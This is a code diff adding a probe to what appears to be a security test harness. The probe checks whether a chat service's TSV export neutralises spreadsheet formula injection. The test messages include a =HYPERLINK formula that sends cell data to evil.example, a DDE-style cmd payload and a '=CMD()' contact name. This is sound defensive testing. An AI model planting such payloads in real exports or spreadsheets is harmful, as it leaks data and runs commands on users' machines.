@@ -518,9 +518,82 @@ const ATTACKS = [
   {
     id: 'engagement-tsv-formula',
     service: 'engagement',
-    what: 'chat export TSV with =HYPERLINK(...) (owner: engtenant)',
-    async run() {
-      return { verdict: 'not probed', detail: 'needs a chat with user text; covered by the engtenant formula tests' };
+    what: 'a user writes =HYPERLINK(...) and other formula starts to the line; an agent exports the chat as TSV',
+    async run(ctx) {
+      const from = `5730${String(Date.now()).slice(-7)}`;
+      const texts = [
+        '=HYPERLINK("http://evil.example/?"&A1,"ver pedido")',
+        '+1+cmd|" /C calc"!A0',
+        '@SUM(1+1)',
+        '-2+3',
+      ];
+      for (const text of texts) {
+        const res = await fetch(`${ctx.sandbox}/_sandbox/reply`, {
+          method: 'POST',
+          headers: { 'content-type': 'application/json' },
+          body: JSON.stringify({ phone_number_id: SANDBOX_MESSAGING_DEMO.phoneNumberId, from, text, name: '=CMD()' }),
+        });
+        if (res.status !== 200) throw new Error(`sandbox reply: ${res.status} ${await res.text()}`);
+      }
+      const phone = `+${from}`;
+      let chat;
+      for (let i = 0; !chat; i++) {
+        const found = await api(
+          ctx.services.engagement,
+          ctx.key,
+          'GET',
+          `/v1/engagement/chat/search?search=${encodeURIComponent(phone)}`,
+        );
+        chat = found.body?.chats?.find((c) => c.contact?.phone === phone);
+        if (!chat && i > 300) throw new Error(`no chat for ${phone}: ${JSON.stringify(found.body)}`);
+        if (!chat) await new Promise((r) => setTimeout(r, 100));
+      }
+      for (let i = 0; ; i++) {
+        const acts = await api(
+          ctx.services.engagement,
+          ctx.key,
+          'GET',
+          `/v1/engagement/chat/${chat.chat_id}/activities?activity_type=message`,
+        );
+        if ((acts.body?.activities ?? []).length >= texts.length) break;
+        if (i > 300) throw new Error('the messages did not all reach the chat');
+        await new Promise((r) => setTimeout(r, 100));
+      }
+      const month = new Date().toISOString().slice(0, 7);
+      const requested = await api(ctx.services.engagement, ctx.key, 'POST', '/v1/engagement/chat/export', {
+        language: 'en',
+        export_type: 'single_chat',
+        export_format: 'tsv',
+        time_range_start_date: month,
+        time_range_end_date: month,
+        chat_id: chat.chat_id,
+      });
+      if (requested.status !== 201) throw new Error(`export: ${requested.status} ${JSON.stringify(requested.body)}`);
+      let done;
+      for (let i = 0; !done; i++) {
+        const got = await api(
+          ctx.services.engagement,
+          ctx.key,
+          'GET',
+          `/v1/engagement/chat/export/${requested.body.export_id}`,
+        );
+        if (got.body?.status === 'completed') done = got.body;
+        else if (i > 600) throw new Error(`export still ${got.body?.status}`);
+        else await new Promise((r) => setTimeout(r, 100));
+      }
+      const link = new URL(done.download_url);
+      const tsv = await (await fetch(`${ctx.services.engagement}${link.pathname}${link.search}`)).text();
+      const cells = tsv
+        .trimEnd()
+        .split('\n')
+        .slice(1)
+        .flatMap((line) => line.split('\t'));
+      // A live formula: a cell starting with = + - @ that is not a plain number.
+      const live = cells.filter((c) => /^[=+@-]/.test(c) && !/^[+-]?[0-9.]+$/.test(c));
+      return {
+        verdict: live.length === 0 ? 'refused' : 'NOT BOUNDED',
+        detail: `${cells.length} cells exported, ${live.length} would start a formula${live.length ? `: ${live.slice(0, 3).join(' | ')}` : ''}`,
+      };
     },
   },
 ];
@@ -559,6 +632,7 @@ async function main() {
     key: stack.info.api_key,
     passClient: stack.info.pass_client,
     line: SANDBOX_MESSAGING_DEMO.phone,
+    sandbox: stack.info.sandbox_messaging,
   };
   // The demo key reaches each service's access cache through Kafka.
   for (const name of ['checks', 'validations', 'engagement'].filter((n) => processes[n]))
